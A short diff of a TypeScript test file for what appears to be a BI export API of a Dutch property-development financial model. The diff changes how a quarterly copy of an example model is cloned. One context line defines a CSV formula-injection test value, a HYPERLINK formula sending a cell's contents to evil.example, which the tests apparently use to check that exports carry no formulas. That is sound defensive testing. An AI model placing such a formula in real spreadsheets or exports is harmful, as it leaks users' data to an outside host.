@@ -20,7 +20,8 @@ import type { BiLink, BiPassword } from '../../src/api/contract/biLink.ts';
 // it, money in cents and Edm.Decimal, CSV for Dutch Excel, and no formula in any CSV field.
 
 const example = JSON.parse(readFileSync(new URL('../../src/formulas/examples/worked-example.model.json', import.meta.url), 'utf8')) as ModelData;
-const quarterly = remapPeriodItems(example, { ...example, base_parameters: { ...example.base_parameters, phasing_period: 'Quarterly' } });
+const quarterly = structuredClone({ ...example, base_parameters: { ...example.base_parameters, phasing_period: 'Quarterly' as const } });
+remapPeriodItems(example, quarterly);
 /** Forty houses instead of ten: revenues above costs, so book values and results turn negative. */
 const profitable: ModelData = { ...quarterly, residential_construction: quarterly.residential_construction.map((r) => ({ ...r, amount: 40 })) };
 const EVIL_NUMBER = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")';
